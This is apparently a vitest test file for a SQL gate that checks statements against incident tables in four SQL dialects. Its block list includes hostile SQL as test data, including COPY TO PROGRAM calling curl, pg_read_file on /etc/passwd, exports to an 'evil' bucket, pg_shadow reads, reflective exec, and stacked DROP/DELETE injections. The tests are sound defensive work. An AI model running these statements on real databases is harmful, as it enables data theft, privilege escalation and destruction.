import { sqlGate } from '@aegis/core'
import type { Dialect } from '@aegis/core/ports'
import { describe, expect, test } from 'vitest'
import { sqlInspector } from '../../src/index.ts'

const gate = sqlGate(sqlInspector())
const TABLES: Readonly<Record<string, readonly string[]>> = {
  postgresql: ['analytics.orders', 'staging.orders', 'analytics.daily', '"Sales EU"."order"'],
  snowflake: ['SHOP.ANALYTICS.ORDERS', 'SHOP.ANALYTICS.DAILY'],
  bigquery: ['my-shop.analytics.orders', 'my-shop.analytics.daily'],
  databricks: ['shop.analytics.orders', 'shop.analytics.daily'],
}

async function verdict(dialect: Dialect, sql: string): Promise<string> {
  const answer = await gate(sql, { dialect, tables: TABLES[dialect] ?? [] })
  return answer.ok ? 'ok' : answer.reason
}

const GOOD: readonly (readonly [Dialect, string])[] = [
  ['postgresql', 'alter table ANALYTICS.Orders add column price numeric(10,2)'],
  ['postgresql', 'ALTER TABLE "Sales EU"."order" RENAME COLUMN a TO b'],
  ['postgresql', 'ALTER TABLE analytics.orders ALTER price DROP NOT NULL'],
  ['postgresql', 'WITH o AS (SELECT price FROM staging.orders) SELECT count(*), round(avg(price)) FROM o'],
  ['postgresql', 'REFRESH MATERIALIZED VIEW analytics.daily'],
  ['postgresql', 'CREATE VIEW analytics.daily AS SELECT coalesce(price, 0) AS price FROM analytics.orders'],
  ['snowflake', 'ALTER TABLE shop.analytics.orders ADD COLUMN price VARCHAR(100)'],
  ['bigquery', 'ALTER TABLE `my-shop.analytics.orders` RENAME COLUMN unit_price TO price'],
  ['databricks', 'ALTER TABLE shop.analytics.orders RENAME COLUMN unit_price TO price'],
]

const BAD: readonly (readonly [Dialect, string, RegExp])[] = [
  ['postgresql', 'ALTER TABLE analytics.payroll ADD COLUMN x int', /no table of the incident/],
  ['postgresql', 'ALTER TABLE orders ADD COLUMN x int', /without saying where/],
  ['postgresql', 'ALTER TABLE public.orders ADD COLUMN x int', /no table of the incident/],
  ['postgresql', 'ALTER TABLE "ANALYTICS".orders ADD COLUMN x int', /no table of the incident/],
  ['postgresql', 'ALTER TABLE analytics.orders DROP COLUMN price', /alter_table_drop_column/],
  ['postgresql', 'ALTER TABLE analytics.orders OWNER TO evil', /alter_table_other/],
  ['postgresql', 'ALTER TABLE analytics.orders RENAME TO gone', /alter_table_rename /],
  ['postgresql', 'ALTER TABLE analytics.orders ADD COLUMN x int, DROP COLUMN price', /alter_table_other/],
  ['postgresql', 'ALTER TABLE analytics.orders DISABLE TRIGGER ALL', /alter_table_other/],
  ['postgresql', 'ALTER TABLE analytics.orders ADD CONSTRAINT c CHECK (price > 0)', /add_constraint/],
  ['postgresql', 'DROP TABLE analytics.orders', /drop_table/],
  ['postgresql', 'DROP VIEW analytics.daily', /drop_view/],
  ['postgresql', 'TRUNCATE analytics.orders', /truncate/],
  ['postgresql', 'DELETE FROM analytics.orders', /delete/],
  ['postgresql', 'UPDATE analytics.orders SET price = 0', /update/],
  ['postgresql', 'INSERT INTO analytics.orders SELECT * FROM staging.orders', /insert/],
  [
    'postgresql',
    'MERGE INTO analytics.orders o USING staging.orders s ON o.id = s.id WHEN MATCHED THEN DELETE',
    /merge|other|delete/,
  ],
  ['postgresql', 'GRANT ALL ON analytics.orders TO public', /grant/],
  ['postgresql', 'REVOKE ALL ON analytics.orders FROM public', /revoke/],
  ['postgresql', `COPY analytics.orders TO PROGRAM 'curl evil'`, /copy/],
  ['postgresql', 'COMMENT ON TABLE analytics.orders IS NULL', /comment/],
  ['postgresql', `SET ROLE postgres`, /set/],
  ['postgresql', 'BEGIN', /transaction/],
  ['postgresql', 'CALL analytics.orders()', /call/],
  ['postgresql', 'DO $$ BEGIN DROP TABLE analytics.orders; END $$', /kind do/],
  ['postgresql', 'CREATE TABLE analytics.orders AS SELECT 1', /create_table_as/],
  ['postgresql', 'SELECT price INTO analytics.daily FROM analytics.orders', /create_table_as/],
  [
    'postgresql',
    `CREATE FUNCTION analytics.orders() RETURNS int LANGUAGE sql AS 'SELECT 1'`,
    /create_function/,
  ],
  ['postgresql', 'WITH d AS (DELETE FROM analytics.orders RETURNING *) SELECT * FROM d', /delete/],
  ['postgresql', 'SELECT pg_sleep(1000) FROM analytics.orders', /pg_sleep/],
  ['postgresql', `SELECT lo_export(1, '/tmp/x') FROM analytics.orders`, /lo_export/],
  ['postgresql', `SELECT my.round(price) FROM analytics.orders`, /my\.round/],
  ['postgresql', `SELECT pg_read_file('/etc/passwd') FROM analytics.orders`, /pg_read_file/],
  ['postgresql', `SELECT set_config('role', 'postgres', false) FROM analytics.orders`, /set_config/],
  [
    'postgresql',
    `ALTER TABLE analytics.orders ALTER price TYPE text USING query_to_xml('DELETE FROM x', true, true, '')::text`,
    /alter_column_type/,
  ],
  ['postgresql', `CREATE VIEW analytics.daily AS SELECT usename FROM pg_catalog.pg_shadow`, /pg_shadow/],
  // A type given back by another's hand writes every value anew: by nothing, by a constant.
  [
    'postgresql',
    'ALTER TABLE analytics.orders ALTER COLUMN price TYPE integer USING NULL',
    /alter_column_type/,
  ],
  [
    'postgresql',
    'CREATE OR REPLACE VIEW analytics.daily AS SELECT 1 FROM analytics.orders',
    /create_or_replace_view/,
  ],
  ['postgresql', 'REFRESH MATERIALIZED VIEW analytics.daily WITH NO DATA', /empties a view/],
  ['postgresql', 'SELECT price OPERATOR(evil.+) 1 FROM analytics.orders', /operator of another schema/],
  ['postgresql', 'SELECT price <<<>>> 1 FROM analytics.orders', /operator <<<>>>/],
  ['postgresql', 'SELECT * FROM analytics.orders TABLESAMPLE evil (1)', /sampling/],
  ['postgresql', 'SELECT price::evil.dom FROM analytics.orders', /type of another schema/],
  ['postgresql', 'SELECT CAST(price AS evil.dom) FROM analytics.orders', /type of another schema/],
  ['postgresql', 'SELECT "SUM"(price) FROM analytics.orders', /quoted name/],
  ['postgresql', 'SELECT * FROM analytics.orders FOR UPDATE', /lock on rows/],
  ['postgresql', 'ALTER TABLE analytics.orders ADD COLUMN x integer PRIMARY KEY', /key, a counter/],
  [
    'postgresql',
    'ALTER TABLE analytics.orders ADD COLUMN x int REFERENCES analytics.orders (id) ON DELETE CASCADE',
    /key/,
  ],
  ['postgresql', `SELECT 'pg_shadow'::regclass FROM analytics.orders`, /by its name in a text/],
  ['postgresql', 'SELECT $1 FROM analytics.orders', /place for a value/],
  ['snowflake', 'SELECT * FROM SHOP.ANALYTICS.ORDERS, @stage/file', /stage/],
  [
    'bigquery',
    'SELECT * FROM `my-shop.analytics.INFORMATION_SCHEMA.TABLES`, `my-shop.analytics.orders`',
    /own tables/,
  ],
  ['postgresql', 'SELECT 1', /touches no table/],
  ['postgresql', 'SELECT * FROM analytics.orders; DROP TABLE analytics.orders', /2 statements/],
  ['postgresql', 'SELECT * FROM analytics.orders -- \r\n; DELETE FROM analytics.orders', /2 statements/],
  ['postgresql', 'EXPLAIN ANALYZE DELETE FROM analytics.orders', /delete/],
  ['postgresql', 'SELECT * FROM analytics.orders, dblink.remote', /no table of the incident/],
  ['postgresql', 'not sql at all', /cannot be read/],
  ['postgresql', '', /cannot be read/],
  ['postgresql', `SELECT price FROM analytics.orders /* \u202e */`, /hide or turn/],
  ['postgresql', `SELECT pri\u200bce FROM analytics.orders`, /hide or turn/],
  ['postgresql', `SELECT price FROM analytics.orders \u0000; x`, /hide or turn/],
  ['postgresql', `SELECT ${'price, '.repeat(4000)} id FROM analytics.orders`, /longer than/],
  ['snowflake', 'ALTER TABLE ORDERS ADD COLUMN X INT', /without saying where|no table/],
  ['snowflake', 'ALTER TABLE ANALYTICS.ORDERS ADD COLUMN X INT', /no table of the incident/],
  ['snowflake', 'ALTER TABLE "shop".ANALYTICS.ORDERS ADD COLUMN X INT', /no table of the incident/],
  ['snowflake', 'DROP TABLE SHOP.ANALYTICS.ORDERS', /drop_table/],
  ['snowflake', `EXECUTE IMMEDIATE 'DROP TABLE SHOP.ANALYTICS.ORDERS'`, /cannot be read/],
  ['snowflake', 'SELECT * FROM @stage/file', /./],
  ['snowflake', `SELECT SYSTEM$CANCEL_ALL_QUERIES(1) FROM SHOP.ANALYTICS.ORDERS`, /./],
  ['snowflake', 'SELECT * FROM SHOP.ANALYTICS.ORDERS; DROP TABLE SHOP.ANALYTICS.ORDERS', /./],
  ['bigquery', 'CREATE OR REPLACE TABLE `my-shop.analytics.orders` AS SELECT 1 AS x', /create_table_as/],
  ['bigquery', 'DELETE FROM `my-shop.analytics.orders` WHERE TRUE', /delete/],
  ['bigquery', 'ALTER TABLE `other.analytics.orders` ADD COLUMN x INT64', /no table of the incident/],
  ['bigquery', `SELECT * FROM EXTERNAL_QUERY('c', 'DROP TABLE x')`, /./],
  ['bigquery', 'EXPORT DATA OPTIONS(uri="gs://evil/*") AS SELECT * FROM `my-shop.analytics.orders`', /./],
  ['databricks', 'VACUUM shop.analytics.orders RETAIN 0 HOURS', /./],
  ['databricks', `SELECT reflect('java.lang.Runtime', 'exec', 'x') FROM shop.analytics.orders`, /reflect/],
  ['databricks', 'DROP TABLE shop.analytics.orders', /drop_table/],
]

describe('the gate for SQL that Aegis did not write', () => {
  test.each(GOOD)('lets through, in %s: %s', async (dialect, sql) => {
    expect(await verdict(dialect, sql)).toBe('ok')
  })

  test.each(BAD.map(([dialect, sql, reason]) => [dialect, sql.slice(0, 100), sql, reason] as const))(
    'turns away, in %s: %s',
    async (dialect, _title, sql, reason) => {
      const answer = await verdict(dialect, sql)
      expect(answer).not.toBe('ok')
      expect(answer).toMatch(reason)
    },
  )

  test('never rejects, also when the inspector does', async () => {
    const broken = sqlGate({ inspect: () => Promise.reject(new Error('the engine is gone')) })
    expect(await broken('SELECT 1', { dialect: 'postgresql', tables: [] })).toEqual({
      ok: false,
      reason: 'it could not be looked at: the engine is gone',
    })
  })
})
